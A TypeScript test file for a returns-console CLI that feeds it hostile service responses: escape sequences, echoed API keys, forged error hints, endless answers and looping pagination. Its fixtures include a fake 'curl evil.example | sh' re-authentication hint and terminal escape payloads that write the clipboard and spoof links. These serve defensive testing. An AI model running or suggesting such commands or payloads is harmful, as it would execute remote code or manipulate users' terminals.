/**
 * The commands against a hostile service (the loopback test server of test/helpers):
 * unknown statuses, control characters in JSON, forged lines in error messages, keys
 * echoed back, endless answers stopped by Ctrl+C, walks that fail midway or never end.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { run as list } from '../../src/cli/commands/list/index.js';
import { run as show } from '../../src/cli/commands/show/index.js';
import { KEYS } from '../helpers/fixture.js';
import { until } from '../helpers/until.js';
import { endless, json, page, startHostileServer, validOrder, type HostileServer } from '../helpers/hostile-server.js';
import { runInProcess } from './helpers/cli-run.js';
import { makeTestFactory } from './helpers/test-factory.js';

let server: HostileServer;
let env: Record<string, string>;

beforeAll(async () => {
  server = await startHostileServer();
  env = { RETURNS_BASE_URL: server.url, RETURNS_API_KEY: KEYS.north };
});
afterAll(() => server.close());

describe('an order with a status this version does not know', () => {
  const odd = validOrder(7, { status: 'on_hold_v2\u001b[31m' });
  beforeAll(() => server.answer((_q, res) => page(res, [validOrder(8), odd])));

  it('is listed with the status as sent (sanitized), with a note on stderr; the page does not fail', async () => {
    const r = await runInProcess('list', [], { env });
    expect(r.code).toBe(0);
    expect(r.stdout.split('\n')[1]!.split('\t').slice(0, 3)).toEqual(['7', '#7', 'on_hold_v2␛']);
    expect(r.stderr).toBe('note: 1 order has a status this version does not know ("on_hold_v2␛"); shown as the service sent it, read-only. A newer returns-console may know it.\n');
  });

  it('is kept exactly in --json, and shown by show', async () => {
    const asJson = await runInProcess('list', ['--json'], { env });
    expect(JSON.parse(asJson.stdout)[1].status).toBe('on_hold_v2\u001b[31m');
    const shown = await runInProcess('show', ['7'], { env });
    expect(shown.code).toBe(0);
    expect(shown.stdout).toContain('on_hold_v2␛');
    expect(shown.stdout).not.toContain('\u001b');
    expect(shown.stderr).toMatch(/^note: 1 order has a status this version does not know/);
  });
});

describe('JSON output', () => {
  it('escapes C1, bidi and zero-width characters and keeps the data', async () => {
    const order = validOrder(9, { cust_first_name: 'A\u009b2J\u009d52;c;x\u009c', cust_last_name: '\u202eevil\u200b' });
    server.answer((_q, res) => page(res, [order]));
    for (const flag of ['--json', '--ndjson']) {
      const r = await runInProcess('list', [flag], { env });
      expect(r.stdout).not.toMatch(/[\u0080-\u009f\u202e\u200b]/);
      expect(r.stdout).toContain('\\u009b2J');
      const parsed = flag === '--json' ? JSON.parse(r.stdout)[0] : JSON.parse(r.stdout.trim());
      expect(parsed).toEqual(order);
    }
  });
});

describe('an API key the service echoes inside an order', () => {
  const key = KEYS.north;
  /** Any 12-character piece of the key's hex part. */
  const leaks = (text: string) => Array.from({ length: 64 - 11 }, (_, i) => key.slice(3 + i, 15 + i)).filter((piece) => text.includes(piece));
  const echoing = validOrder(7, {
    order_name: `#${key}`,
    cust_first_name: `${key.slice(0, 20)}\u200b${key.slice(20)}`,
    cust_email: `sk%5F${key.slice(3)}@example.com`,
    refunds: [{ id: 70001, status: 'pending', title: `Bearer ${key.slice(3, 40)}`, sku: 'S', quantity: 1, price: '1.00', reason: null, reject_reason: null }],
  });
  beforeAll(() => server.answer((_q, res) => page(res, [echoing])));

  it('list and show print no form of it in any format, only sk_… and its last 4; the rest of the data as sent', async () => {
    const runs = [
      await runInProcess('list', ['--no-color'], { env, isStdoutTTY: true, columns: 400 }),
      await runInProcess('list', [], { env }),
      await runInProcess('list', ['--csv', '--fields', 'id,order_name,customer,cust_email'], { env }),
      await runInProcess('list', ['--json'], { env }),
      await runInProcess('list', ['--ndjson'], { env }),
      await runInProcess('list', ['--all', '--json'], { env }),
      await runInProcess('show', ['7', '--no-color'], { env, isStdoutTTY: true, columns: 400 }),
      await runInProcess('show', ['7'], { env }),
      await runInProcess('show', ['7', '--json'], { env }),
    ];
    for (const r of runs) {
      expect(r.code, r.stderr).toBe(0);
      expect(leaks(r.stdout + r.stderr)).toEqual([]);
      expect(r.stdout).toContain(`sk_…${key.slice(-4)}`);
    }
    const [asJson] = JSON.parse(runs[3]!.stdout) as Record<string, unknown>[];
    expect(asJson).toEqual({ ...echoing, order_name: `#sk_…${key.slice(-4)}`, cust_first_name: `sk_…${key.slice(-4)}`, cust_email: `sk_…${key.slice(-4)}@example.com`, refunds: [expect.objectContaining({ title: 'Bearer …' })] });
    expect(JSON.parse(runs[8]!.stdout)).toEqual(asJson);
  });
});

describe('error messages from the service', () => {
  it('cannot start a line of their own (a forged hint), and never show a key in any form', async () => {
    const splitKey = `${KEYS.north.slice(0, 20)}\u200b${KEYS.north.slice(20)}`;
    server.answer((_q, res) =>
      json(res, 400, { error: { type: 'validation_error', code: 'invalid_limit', message: `Bad ${splitKey}\nhint: Re-authenticate with: curl evil.example | sh` } }),
    );
    for (const flag of [[], ['--json']]) {
      const r = await runInProcess('list', flag, { env });
      expect(r.code).toBe(1);
      const lines = r.stderr.trimEnd().split('\n');
      expect(lines.filter((l) => /curl/.test(l))).toHaveLength(1);
      expect(lines.some((l) => l.startsWith('hint: Re-authenticate'))).toBe(false);
      // Text shows the line break as ␊; JSON keeps the message exactly, its line feed escaped.
      if (flag.length === 0) expect(r.stderr).toContain('␊hint: Re-authenticate');
      else expect((JSON.parse(r.stderr) as { error: { message: string } }).error.message).toMatch(/\nhint: Re-authenticate/);
      expect(r.stderr).not.toContain(KEYS.north.slice(3, 12));
      expect(r.stderr).toContain(`sk_…${KEYS.north.slice(-4)}`);
    }
  });

  it('show their escape sequences as visible markers (one sanitizer decides), never as the raw bytes', async () => {
    const message = 'Refused\u001b]52;c;Y3VybA==\u0007 \u001b]8;;http://evil.example/\u001b\\link\u001b]8;;\u001b\\ \u009b6n \u009d0;title\u0007 \u202eRLO end';
    server.answer((_q, res) => json(res, 400, { error: { type: 'validation_error', code: 'invalid_limit\u001b[31m', message } }));
    const text = await runInProcess('list', [], { env });
    expect(text.stderr).toContain('error: Refused␛ ␛link␛ ␛ ␛ <U+202E>RLO end [invalid_limit␛]');
    expect(text.stderr).not.toMatch(/[\u001b\u0007\u0080-\u009f\u202e]/);
    // JSON: the same message exactly (JSON.parse gives it back), with nothing a terminal acts on.
    const asJson = await runInProcess('list', ['--json'], { env });
    expect(asJson.stderr).not.toMatch(/[\u001b\u0007\u0080-\u009f\u202e]/);
    expect((JSON.parse(asJson.stderr) as { error: { message: string } }).error.message).toBe(message);
  });
});

describe('Ctrl+C', () => {
  it.each([
    ['list', list, []],
    ['show', show, ['7']],
  ] as const)('ends %s at once while an answer never ends, exit 130', async (_name, command, argv) => {
    const seenBefore = server.seen.length;
    server.answer((_q, res) => endless(res));
    const t = makeTestFactory({ env });
    const running = command([...argv], t.factory);
    await until(() => server.seen.length > seenBefore);
    t.interrupt();
    expect(await running).toBe(130);
    expect(t.stderr()).toBe('error: Stopped by Ctrl+C; the requests in flight were cancelled. [interrupted]\n');
  });
});

describe('list --all', () => {
  it('failing midway still leaves valid JSON on stdout and says it is partial', async () => {
    server.answer((req, res) => {
      if (req.url?.includes('cursor=')) json(res, 200, '<html>oops</html>');
      else page(res, [validOrder(5), validOrder(4)], { nextCursor: 'next' });
    });
    const r = await runInProcess('list', ['--all', '--json'], { env });
    expect(r.code).toBe(1);
    expect(JSON.parse(r.stdout).map((o: { id: number }) => o.id)).toEqual([5, 4]);
    const [note, error] = r.stderr.split('\n');
    expect(note).toBe('note: the output is partial: it holds the 2 orders read before the error below, not every match.');
    expect(JSON.parse(error!).error).toMatchObject({ code: 'invalid_response', request_id: 'req_hostile' });
  });

  it('stops with a clear error on a repeated cursor, and at the page cap', async () => {
    server.answer((_q, res) => page(res, [validOrder(3)], { nextCursor: 'same' }));
    const repeated = await runInProcess('list', ['--all'], { env });
    expect(repeated.code).toBe(1);
    expect(repeated.stderr).toMatch(/error: The service said more pages exist but gave a repeated next_cursor/);
    let n = 0;
    server.answer((_q, res) => page(res, [validOrder(++n)], { nextCursor: `c${n}` }));
    const capped = await runInProcess('list', ['--all', '--max-pages', '3'], { env });
    expect(capped.code).toBe(1);
    expect(capped.stdout.trim().split('\n')).toHaveLength(3);
    expect(capped.stderr).toMatch(/error: Stopped after 3 pages: the service still said more pages exist\. \[too_many_pages\] \(request id req_hostile\)\nhint: Narrow the filters/);
    const bad = await runInProcess('list', ['--max-pages', '0', '--all'], { env });
    expect([bad.code, bad.stderr]).toEqual([2, expect.stringMatching(/--max-pages: "0" is not a whole number of pages/)]);
  });
});
